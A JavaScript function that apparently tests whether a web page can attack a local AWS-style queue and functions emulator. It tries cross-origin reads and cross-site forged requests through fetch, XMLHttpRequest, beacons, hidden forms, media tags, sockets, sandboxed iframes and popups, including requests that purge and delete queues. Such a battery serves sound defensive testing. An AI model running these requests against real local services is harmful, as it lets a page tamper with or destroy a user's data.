// What a page can try on a server at `base`; `tag` names what it would make, `queue` is there.
// Each attack answers with what it could read, or null. Nothing here throws.
async function attack(base, tag, queue) {
  const found = {};
  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
  const within = (ms, work) => Promise.race([work.catch(() => null), pause(ms).then(() => null)]);
  const asked = (name, work) => within(4000, Promise.resolve().then(work)).then((value) => {
    found[name] = value === undefined ? null : value;
  });
  const make = (how) => `Action=CreateQueue&Version=2012-11-05&QueueName=${tag}-${how}`;
  const json = (how) => JSON.stringify({ QueueName: `${tag}-${how}` });
  const wire = "application/x-amz-json-1.0";
  const form = "application/x-www-form-urlencoded";
  const read = async (url, options) => {
    const answer = await fetch(base + url, options);
    return answer.type === "opaque" ? null : [answer.status, await answer.text()];
  };
  const signed = {
    "Content-Type": wire,
    "X-Amz-Target": "AmazonSQS.CreateQueue",
    Authorization: "AWS4-HMAC-SHA256 Credential=000000000000/20260101/us-east-1/sqs/aws4_request,"
      + " SignedHeaders=host, Signature=0",
  };
  const tries = [];
  // --- fetch: read, and write with and without a preflight ---
  for (const path of ["/_redrive/health", "/?Action=ListQueues&Version=2012-11-05",
    "/2015-03-31/functions", `/000000000000/${queue}?Action=ReceiveMessage&Version=2012-11-05`]) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      for (const credentials of ["omit", "include"]) {
        tries.push(asked(`read ${mode} ${credentials} ${path}`, () =>
          read(path, { mode, credentials, redirect: "follow" })));
      }
    }
  }
  tries.push(asked("json", () =>
    read("/", { method: "POST", headers: signed, body: json("json") })));
  tries.push(asked("json with credentials", () =>
    read("/", { method: "POST", headers: signed, body: json("creds"), credentials: "include" })));
  for (const kind of [form, "text/plain", "multipart/form-data"]) {
    for (const mode of ["cors", "no-cors"]) {
      const body = make(`${kind.split("/")[1].slice(0, 6)}-${mode}`);
      tries.push(asked(`post ${mode} ${kind}`, () =>
        read("/", { method: "POST", mode, headers: { "Content-Type": kind }, body })));
    }
  }
  for (const method of ["PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"]) {
    tries.push(asked(`method ${method}`, () => read("/2015-03-31/functions/f", { method })));
  }
  tries.push(asked("reset", () => read("/_redrive/reset", { method: "POST", mode: "no-cors" })));
  tries.push(asked("keepalive", () => read("/", { method: "POST", mode: "no-cors",
    keepalive: true, headers: { "Content-Type": form }, body: make("keepalive") })));
  tries.push(asked("no referrer", () => read("/", { method: "POST", mode: "no-cors",
    referrerPolicy: "no-referrer", headers: { "Content-Type": form }, body: make("noref") })));
  // --- XMLHttpRequest with headers of its own ---
  tries.push(asked("xhr", () => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open("POST", base + "/");
    request.withCredentials = true;
    for (const [name, value] of Object.entries(signed)) request.setRequestHeader(name, value);
    request.onload = () => done([request.status, request.responseText]);
    request.onerror = () => done(null);
    request.send(json("xhr"));
  })));
  // --- what needs no permission to be sent ---
  tries.push(asked("beacon", async () => {
    const body = new Blob([make("beacon")], { type: form });
    navigator.sendBeacon(base + "/", body);
    navigator.sendBeacon(base + "/", make("beacon-text"));
    return null;
  }));
  const forms = [form, "text/plain", "multipart/form-data"];
  forms.forEach((kind, number) => tries.push(asked(`form ${kind}`, () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame-${tag}-${number}`;
    document.body.append(frame);
    const sheet = document.createElement("form");
    Object.assign(sheet, { method: "POST", action: base + "/", enctype: kind,
      target: frame.name });
    for (const pair of make(`form${number}`).split("&")) {
      const field = document.createElement("input");
      [field.name, field.value] = pair.split("=");
      sheet.append(field);
    }
    document.body.append(sheet);
    frame.onload = () => {
      try { done(frame.contentDocument.body.innerText || null); } catch { done(null); }
    };
    sheet.submit();
  }))));
  const gets = [make("get"), "Action=PurgeQueue&Version=2012-11-05",
    "Action=DeleteQueue&Version=2012-11-05",
    "Action=SendMessage&Version=2012-11-05&MessageBody=evil"];
  for (const tagName of ["img", "script", "iframe", "link", "object", "embed", "audio"]) {
    gets.forEach((fields, number) => tries.push(asked(`${tagName} ${number}`, () =>
      new Promise((done) => {
        const path = number === 0 ? "/" : `/000000000000/${queue}`;
        const made = document.createElement(tagName);
        const url = `${base}${path}?${fields}${number === 0 ? tagName : ""}`;
        made.onerror = () => done(null);
        made.onload = () => {
          let text = null;
          try { text = made.contentDocument && made.contentDocument.body.innerText; } catch { }
          done(text || null);
        };
        if (tagName === "link") Object.assign(made, { rel: "stylesheet", href: url });
        else if (tagName === "object") made.data = url;
        else made.src = url;
        document.body.append(made);
        if (["object", "embed", "audio"].includes(tagName)) pause(1500).then(() => done(null));
      }))));
  }
  // --- streams and sockets ---
  tries.push(asked("events", () => new Promise((done) => {
    const source = new EventSource(base + "/_redrive/health");
    source.onmessage = (event) => { source.close(); done(event.data); };
    source.onerror = () => { source.close(); done(null); };
  })));
  tries.push(asked("socket", () => new Promise((done) => {
    const socket = new WebSocket((base || location.origin).replace("http", "ws") + "/");
    socket.onopen = () => { socket.send(make("socket")); done("opened"); };
    socket.onerror = () => done(null);
  })));
  // --- a page without an origin, and a window of its own ---
  tries.push(asked("sandbox", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    const url = (base || location.origin) + "/";
    frame.sandbox = "allow-scripts allow-forms";
    frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "${form}"}, body: "${make("sandbox")}"})
      .then(() => parent.postMessage("sent", "*"), () => parent.postMessage("sent", "*"))</` + `script>`;
    window.addEventListener("message", () => done(null));
    document.body.append(frame);
  })));
  tries.push(asked("window", async () => {
    const opened = window.open(`${base || location.origin}/?${make("window")}`);
    await pause(1500);
    let text = null;
    try { text = opened.document.body.innerText; } catch { }
    if (opened) opened.close();
    return text || null;
  }));
  await Promise.all(tries);
  return found;
}
